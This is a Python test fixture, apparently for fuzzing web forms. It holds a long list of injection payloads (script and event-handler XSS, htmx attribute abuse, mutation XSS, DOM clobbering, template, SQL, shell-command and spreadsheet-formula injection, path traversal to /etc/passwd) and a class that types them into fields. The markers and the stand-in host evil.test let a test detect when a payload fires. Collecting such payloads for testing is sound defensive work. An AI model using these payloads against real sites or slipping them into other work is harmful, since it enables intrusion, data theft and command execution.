"""What mischief types into a field: everything that once ran, called out or broke a page because somebody's words became markup.

Each payload that would make an element gives it the attribute `evil`; each that would call out asks for an address with
`evil-call` in it; each that would run sets `window.__fired`. So one search finds any of them, whatever page it hides in.
"""

import itertools
from collections.abc import Iterable, Iterator

FIRE = "__fired=1"
CALL = "evil-call"  # stands in every address that a payload would make a browser ask for

MARKUP = (
    # --- scripts and handlers, short enough for a first name where they can be
    f"<script evil>{FIRE}</script>",
    f"<script evil src=/{CALL}></script>",
    f"<script evil src=//evil.test/{CALL}></script>",
    f"<ScRiPt evil>{FIRE}</sCrIpT >",
    f"<script evil type=module>{FIRE}</script>",
    f"<scr<script evil>{FIRE}</script>ipt>",
    f"<script evil\x0c>{FIRE}</script>",
    f"<img evil src=x onerror={FIRE}>",
    f"<img evil src=/{CALL}>",
    f"<img evil src=/{CALL} onload={FIRE} onerror={FIRE}>",
    f"<img/evil/src=`x`onerror={FIRE}>",
    f"<img evil srcset='/{CALL} 1x' src=x>",
    f"<image evil href=/{CALL} onerror={FIRE}>",
    f"<input evil autofocus onfocus={FIRE}>",
    f"<body evil onload={FIRE}>",
    f"<body evil onpageshow={FIRE}>",
    f"<details evil open ontoggle={FIRE}>",
    f"<marquee evil onstart={FIRE}>x</marquee>",
    f"<video evil poster=/{CALL}><source onerror={FIRE}></video>",
    f"<audio evil src=/{CALL} onerror={FIRE}>",
    f"<iframe evil src=/{CALL}></iframe>",
    f"<iframe evil srcdoc='<script>parent.{FIRE}</script>'></iframe>",
    f"<iframe evil src=javascript:{FIRE}></iframe>",
    f"<object evil data=/{CALL}></object>",
    f"<embed evil src=/{CALL}>",
    f"<link evil rel=stylesheet href=/{CALL}>",
    f"<link evil rel=prefetch href=/{CALL}>",
    f"<link evil rel=preload as=script href=/{CALL}>",
    f"<a evil href=javascript:{FIRE}>x</a>",
    f"<a evil href='java\tscript:{FIRE}'>x</a>",
    f"<a evil href=data:text/html,<script>{FIRE}</script>>x</a>",
    f"<a evil href=/{CALL} ping=/{CALL}>x</a>",
    f"<area evil href=javascript:{FIRE}>",
    f"<button evil formaction=javascript:{FIRE}>x</button>",
    f"<form evil action=/{CALL}><button>x</button></form>",
    f"<form evil action=//evil.test/{CALL} method=post><input name=x autofocus>",
    "<input evil name=csrf value=x>",
    "<isindex evil type=image src=x>",
    f"<base evil href=//evil.test/{CALL}/>",
    f"<meta evil http-equiv=refresh content='0;url=/{CALL}'>",
    "<meta evil http-equiv=content-security-policy content=\"script-src 'none'\">",
    f"<dialog evil open onclose={FIRE}>x</dialog>",
    f"<p evil onpointerenter={FIRE} style=position:fixed;inset:0;z-index:9>x</p>",
    f"<style evil>*{{background:url(/{CALL})}}</style>",
    f"<style evil>@import'/{CALL}';</style>",
    f"<p evil style=background:url(/{CALL})>x</p>",
    f"<table evil background=/{CALL}>",
    f"<b evil style=animation-name:x onanimationstart={FIRE}>x</b>",
    # --- SVG, MathML, templates
    f"<svg evil onload={FIRE}>",
    f"<svg evil><script>{FIRE}</script></svg>",
    f"<svg evil><script href=/{CALL} /></svg>",
    f"<svg evil><image href=/{CALL} onerror={FIRE} /></svg>",
    f"<svg evil><use href=/{CALL}#x /></svg>",
    f"<svg evil><animate onbegin={FIRE} attributeName=x dur=1s>",
    f"<svg evil><a><animate attributeName=href values=javascript:{FIRE} /><text y=9>x</text></a></svg>",
    f"<svg evil><foreignObject><img src=x onerror={FIRE}></foreignObject></svg>",
    f"<svg evil><style>*{{fill:url(/{CALL})}}</style></svg>",
    f"<math evil><mtext><img src=x onerror={FIRE}></mtext></math>",
    f"<math evil href=javascript:{FIRE}>x</math>",
    f"<template evil><img src=x onerror={FIRE}></template>",
    f"<template evil shadowrootmode=open><img src=x onerror={FIRE}></template>",
    f"<template evil hx type=partial><img src=x onerror={FIRE}></template>",
    f"<noscript><b evil title=\"</noscript><img evil src=x onerror={FIRE}>\"></noscript>",
    # --- htmx, in both spellings and with its modifiers, its websockets, its out-of-band swaps
    f"<b evil hx-get=/{CALL} hx-trigger=load>",
    f"<b evil hx-post=/{CALL} hx-trigger=load>",
    f"<b evil data-hx-get=/{CALL} data-hx-trigger=load>",
    f"<b evil data-hx-post=/{CALL} data-hx-trigger='load delay:1ms'>",
    f"<b evil hx-get=/{CALL} hx-trigger='every 10ms'>",
    f"<b evil hx-delete=/{CALL} hx-trigger=revealed>",
    f"<b evil hx-get=/{CALL} hx-trigger='intersect once'>",
    f"<b evil hx-get=/{CALL} hx-trigger='load[{FIRE}]'>",
    f"<b evil hx-action=/{CALL} hx-method=post hx-trigger=load>",
    f"<b evil hx-on:load={FIRE} hx-on::load={FIRE}>",
    f"<b evil hx-on:htmx:load={FIRE} hx-on-htmx-after-process={FIRE}>",
    f"<b evil hx-init={FIRE} hx-live={FIRE}>",
    f"<b evil hx-vals='js:{{x:{FIRE}}}' hx-get=/{CALL} hx-trigger=load>",
    f"<b evil hx-ext=ws ws-connect=/{CALL}>",
    f"<b evil hx-ws:connect=/{CALL}>",
    f"<b evil hx-sse:connect=/{CALL} sse-connect=/{CALL}>",
    f"<b evil hx-preload=load hx-get=/{CALL} hx-boost=true>",
    f"<b evil hx-config='{{\"selfRequestsOnly\":false}}' hx-get=//evil.test/{CALL} hx-trigger=load>",
    "<div evil id=region-common hx-swap-oob=true>x</div>",
    "<div evil id=mine hx-swap-oob=outerMorph>x</div>",
    "<hx-partial evil hx-target=body>x</hx-partial>",
    # --- ends of what it may stand in
    f"\"><b evil onclick={FIRE}>",
    f"'><b evil onclick={FIRE}>",
    f"\" evil autofocus onfocus={FIRE} x=\"",
    f"' evil autofocus onfocus={FIRE} x='",
    f"` evil onmouseover={FIRE} x=`",
    f"x evil onmouseover={FIRE}",
    f"</textarea><b evil hx-get=/{CALL} hx-trigger=load>",
    f"</title><img evil src=x onerror={FIRE}>",
    f"</option></select><img evil src=x onerror={FIRE}>",
    f"</style><img evil src=x onerror={FIRE}>",
    f"</script><script evil>{FIRE}</script>",
    f"</svg></text><img evil src=x onerror={FIRE}>",
    "</p></div></main></body></html><b evil>",
    f"--><img evil src=x onerror={FIRE}><!--",
    f"--!><img evil src=x onerror={FIRE}>",
    f"<!--><img evil src=x onerror={FIRE}>-->",
    f"]]><img evil src=x onerror={FIRE}>",
    f"<![CDATA[<img evil src=x onerror={FIRE}>]]>",
    f"<?xml version='1.0'?><img evil src=x onerror={FIRE}>",
    f"<plaintext evil>{FIRE}",
    "<xmp evil>",
    # --- half open
    f"<img evil src=x onerror={FIRE} ",
    f"<img evil src='/{CALL}?",
    f"<img evil src=\"/{CALL}?",
    f"<a evil href='/{CALL}?",
    "<b evil",
    "<b evil title='",
    "</b evil",
    "<!doctype evil",
    "<evil",
    "<",
    "&lt;b evil&gt;",
    "&#60;b evil&#62;",
    "&#x3c;b evil",
    "%3Cb%20evil%3E",
    "\\u003cb evil\\u003e",
    "\\x3cb evil\\x3e",
    "+ADw-b evil+AD4-",
    "＜b evil＞",
    # --- mutation: harmless when it is read, harmful when it is read again
    f"<math evil><mtext><table><mglyph><style><!--</style><img title=\"--><img evil src=x onerror={FIRE}>\">",
    f"<form evil><math><mtext></form><form><mglyph><style></math><img src onerror={FIRE}>",
    f"<svg evil></p><style><a id=\"</style><img src=x onerror={FIRE}>\">",
    f"<noembed><b evil title=\"</noembed><img src=x onerror={FIRE}>\">",
    f"<select evil><template><img src=x onerror={FIRE}></template></select>",
    "<b evil id=__fired><b id=body><b name=forms>",
    "<a evil id=htmx><a id=htmx name=config href=x>",
    "<form evil id=document><input name=cookie>",
    # --- templates and formats of ours and of others
    "{{ 7*7 }}<b evil>",
    "{% raw %}<b evil>{% endraw %}",
    "{{ config }}{{ self }}",
    "{% include '/etc/passwd' %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "{0.__class__}{missing}%s%(x)d%n",
    "$(touch x);`id`|id&&id",
    "'; drop table idea; --",
    "\" or 1=1 --",
    "../../../etc/passwd",
    "javascript:__fired=1",
    "data:text/html,<script evil>__fired=1</script>",
    "vbscript:evil",
    f"https://evil.test/{CALL}",
    f"[x](javascript:{FIRE})![x](/{CALL})",
)  # fmt: skip

SHAPES = (
    # --- what has no element but may break a page, or a reader
    "\u202eevil\u202d \u2066evil\u2069 \u200f\u200e\u061c",
    "x\u0000evil\u0001\u0008\u001b[31m\u007f\u0085",
    "e\u0301\u0327" * 20 + "\u0489" * 30,
    "\u200b\u200c\u200d\u2060\ufeffevil",
    "\ufffe\uffff\ufdd0",
    "\U0001f469\u200d\U0001f469\u200d\U0001f467\U0001f1eb\U0001f1f7\U000e0067",
    "ﷺ" * 12 + "𒐫" * 4,
    "W" * 400,
    "mot" * 130,
    "a" + "\u00a0" * 200 + "b",
    "\t\n" * 40 + "evil",
    "İıſK ÅﬃΩ",
    "ed25519/" + "0123456789abcdef" * 16,
)

FORMULAS = (
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)", "=HYPERLINK(\"http://evil.test\",\"x\")", "=IMPORTXML(\"http://evil.test\",\"//x\")",
    "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "﹦1+1", "=1+1\";=1+1", ";=1+1", ",=1+1",
    "\"=1+1\"", "'=1+1", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=WEBSERVICE(\"http://evil.test\")", "{=1+1}", "\u200b=1+1", "\ufeff=1+1",
    "http://evil.test", "mailto:x@evil.test", "internal:Sheet1!A1", "external:c:\\x", "00123", "1e5", "TRUE", "#REF!", "12/03/2027",
    "%0A=1+1", "-point", "+33 6 00 00 00 00", "@lena", "_x0041_", "_x000D_", "<x>&amp;</x>", "]]>",
)  # fmt: skip

CORPUS = MARKUP + SHAPES + FORMULAS


def packed(longest: int, payloads: Iterable[str], lines: bool = True) -> list[str]:
    """As few texts as will hold all these payloads whole, none longer than `longest`. What does not fit alone is cut: a half-open
    tag is a payload as well."""
    texts, between = [""], "\n" if lines else " "
    for payload in payloads:
        one = payload if lines else " ".join(payload.split("\n"))
        longer = f"{texts[-1]}{between}{one}" if texts[-1] else one[:longest]
        if len(longer) <= longest:
            texts[-1] = longer
        else:
            texts.append(one[:longest])
    return texts


class Typist:
    """Hands out texts for fields of any length, until all payloads have been typed, then begins anew."""

    def __init__(self, payloads: Iterable[str] = CORPUS) -> None:
        self._all = tuple(payloads)
        self._turns: dict[tuple[int, bool], Iterator[str]] = {}

    def text(self, longest: int, lines: bool) -> str:
        key = longest, lines
        if key not in self._turns:
            self._turns[key] = itertools.cycle(packed(longest, self._all, lines))
        return next(self._turns[key])
